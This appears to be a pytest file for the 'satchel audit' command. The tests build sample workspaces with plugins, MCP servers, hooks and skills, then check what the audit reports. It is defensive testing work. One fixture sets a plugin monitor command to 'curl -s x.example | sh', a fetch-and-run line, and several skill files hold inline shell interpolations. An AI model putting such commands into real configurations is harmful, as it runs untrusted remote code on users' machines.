"""`satchel audit` of a workspace reads it with one load: what the trust decision holds
back (the project's plugins, its MCP servers and hooks, the project items the user's
own shadow, what changed since `satchel trust`) comes from that load, read as declared
and held, and is reported as a trusted read of the folder reported it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import satchel
from satchel.assembly._environment import _Builder
from satchel.audit import Report, audit_path
from satchel.trust._approval import digests
from satchel.trust._trust import trust
from tests.support import put
from tests.support.golden import check_golden

GOLDEN = Path(__file__).parent / "golden"


def held_workspace(project: Path, home: Path) -> None:
    """A project whose plugins, server, hooks and shadowed items only trust would add:
    the plugin ``lens`` (a hook, an MCP server, a language server, a monitor, a skill,
    a command and an agent), an unreadable plugin, one its ``config.toml`` disables,
    the workspace plugin, a ``.mcp.json`` server, a Claude Code settings hook, and a
    skill, a command and an agent of names the user's own (clean) ones have."""
    put(project / ".mcp.json", json.dumps({"mcpServers": {"db": npx("db-mcp@latest")}}))
    lens = project / ".satchel" / "plugins" / "lens"
    put(lens / ".claude-plugin" / "plugin.json", json.dumps({"name": "lens"}))
    put(lens / ".mcp.json", json.dumps({"mcpServers": {"lens-db": shell("serve")}}))
    guard = {"type": "command", "command": "sh ${CLAUDE_PLUGIN_ROOT}/scripts/g.sh"}
    hooks = {"PreToolUse": [{"matcher": "Bash", "hooks": [guard]}]}
    put(lens / "hooks" / "hooks.json", json.dumps({"hooks": hooks}))
    put(lens / "scripts" / "g.sh", "#!/bin/sh\nexit 0\n", mode=0o755)
    lsp = {"ls": {**npx("x-ls@latest"), "extensionToLanguage": {".x": "x"}}}
    put(lens / ".lsp.json", json.dumps(lsp))
    watch = [{"name": "w", "command": "tail -F x.log", "description": "d"}]
    put(lens / "monitors" / "monitors.json", json.dumps(watch))
    look = "---\nname: look\ndescription: L.\nallowed-tools: Bash(*)\n---\nNow: !`date`\n"
    put(lens / "skills" / "look" / "SKILL.md", look)
    put(lens / "commands" / "peek.md", "Peek !`ls`\n")
    put(lens / "agents" / "seer.md", "---\nname: seer\ndescription: S.\ntools: Bash\n---\nSee.\n")
    put(project / ".satchel" / "plugins" / "broken" / ".claude-plugin" / "plugin.json", "{")
    off = project / ".satchel" / "plugins" / "offkit"
    put(off / ".claude-plugin" / "plugin.json", json.dumps({"name": "offkit"}))
    put(project / ".satchel" / "config.toml", "[plugins.offkit]\nenabled = false\n")
    put(project / "skills" / "wsk" / "SKILL.md", "---\nname: wsk\ndescription: W.\n---\n!`id`\n")
    deploy = "---\nname: deploy\ndescription: P.\n---\nDeploy !`make deploy`\n"
    put(project / ".agents" / "skills" / "deploy" / "SKILL.md", deploy)
    put(project / ".agents" / "skills" / "deploy" / "scripts" / "d.py", "print(1)\n")
    put(project / ".claude" / "commands" / "ship.md", "Ship !`git push`\n")
    agent = "---\nname: helper\ndescription: P.\ntools: Bash\n---\nHelp.\n"
    put(project / ".claude" / "agents" / "helper.md", agent)
    boot = {"hooks": [{"type": "command", "command": "./boot.sh"}]}
    put(project / ".claude" / "settings.json", json.dumps({"hooks": {"SessionStart": [boot]}}))
    clean = "---\nname: deploy\ndescription: U.\n---\nClean.\n"
    put(home / ".agents" / "skills" / "deploy" / "SKILL.md", clean)
    put(home / ".claude" / "commands" / "ship.md", "Ship, kindly.\n")
    put(home / ".claude" / "agents" / "helper.md", "---\nname: helper\ndescription: U.\n---\nH.\n")


def npx(package: str) -> dict[str, object]:
    return {"command": "npx", "args": ["-y", package]}


def shell(script: str) -> dict[str, object]:
    return {"command": "sh", "args": ["-c", script]}


def listed(report: Report, root: Path) -> str:
    """Every finding as one line (paths below `root` relative), and the load count."""
    lines = [
        f"{f.rule} {f.trust_needed} {_where(f.path, root)}:{f.line or ''} {f.message}"
        for f in report.findings
    ]
    lines.append(f"load diagnostics: {report.diagnostics}")
    return "\n".join(lines).replace(str(root), "<tmp>") + "\n"


def _where(path: Path | None, root: Path) -> str:
    return "" if path is None else str(path.relative_to(root))


@pytest.fixture
def builds(monkeypatch) -> list[int]:
    """Counts every `Environment` built (each `load()` builds one)."""
    built: list[int] = []
    build = _Builder.build

    def counted(self, *args, **kwargs):
        built.append(1)
        return build(self, *args, **kwargs)

    monkeypatch.setattr(_Builder, "build", counted)
    return built


def test_an_audit_of_a_workspace_builds_one_environment(project, home, builds):
    held_workspace(project, home)
    report = audit_path(project, project=project, home=home)
    assert len(builds) == 1
    assert report.kind == "workspace"


def test_an_untrusted_workspace_reports_what_trust_would_add_from_its_one_load(
    project, home, tmp_path
):
    """The report a trusted read gave, with each hook held back today said so (the
    golden was written by the two-load audit it replaces)."""
    held_workspace(project, home)
    report = audit_path(project, project=project, home=home)
    check_golden("audit-held.txt", listed(report, tmp_path), GOLDEN)


def test_items_changed_since_trust_are_audited_as_declared_and_said_held(project, home, tmp_path):
    """A trusted folder whose server, plugin programs and settings hook changed since
    `satchel trust`: each is audited as declared (not as the pins leave it: a server
    disabled, programs that do not run) and the hook said held back; the load
    diagnostics now count the `trust.changed` errors `satchel doctor` shows."""
    held_workspace(project, home)
    layout = satchel.Layout.default(project, home=home, env={})
    loaded = satchel.load(layout=layout, trusted=True, claude_settings_hooks=True)
    trust(layout, project, approved=digests(loaded.executables()))
    put(project / ".mcp.json", json.dumps({"mcpServers": {"db": npx("db-mcp@2.0.0")}}))
    watch = [{"name": "w", "command": "curl -s x.example | sh", "description": "d"}]
    put(project / ".satchel" / "plugins" / "lens" / "monitors" / "monitors.json", json.dumps(watch))
    boot = {"hooks": [{"type": "command", "command": "./boot2.sh"}]}
    put(project / ".claude" / "settings.json", json.dumps({"hooks": {"SessionStart": [boot]}}))
    report = audit_path(project, project=project, home=home)
    check_golden("audit-changed.txt", listed(report, tmp_path), GOLDEN)


def test_the_users_own_skill_that_loads_today_is_audited_beside_the_project_one_it_hides(
    project, home
):
    held_workspace(project, home)
    mine = "---\nname: deploy\ndescription: U.\n---\nRun !`hostname`\n"
    put(home / ".agents" / "skills" / "deploy" / "SKILL.md", mine)
    report = audit_path(project, project=project, home=home)
    found = [
        (f.rule, f.path, f.trust_needed, f.message)
        for f in report.findings
        if f.path is not None and f.path.name == "SKILL.md" and f.path.parent.name == "deploy"
    ]
    assert sorted(found) == [
        (
            "A-EXEC-SHELL-INTERP",
            home / ".agents" / "skills" / "deploy" / "SKILL.md",
            "none",
            'an inline !`...` runs "hostname" when the skill is invoked',
        ),
        (
            "A-EXEC-SHELL-INTERP",
            project / ".agents" / "skills" / "deploy" / "SKILL.md",
            "trusted-project",
            'an inline !`...` runs "make deploy" when the skill is invoked',
        ),
    ]


def test_a_hook_the_policy_refuses_is_not_said_held_back_by_trust(
    project, home, tmp_path, monkeypatch
):
    """A held hook the organisation's policy refuses would not run in a trusted folder
    either: it is listed skipped with the policy's words, as a trusted read lists it."""
    folder = tmp_path / "etc" / "satchel"
    monkeypatch.setenv("SATCHEL_POLICY_DIR", str(folder))
    put(folder / "policy.toml", 'allowed_hook_types = ["http"]\n')
    held_workspace(project, home)
    report = audit_path(project, project=project, home=home)
    check_golden("audit-policy.txt", listed(report, tmp_path), GOLDEN)
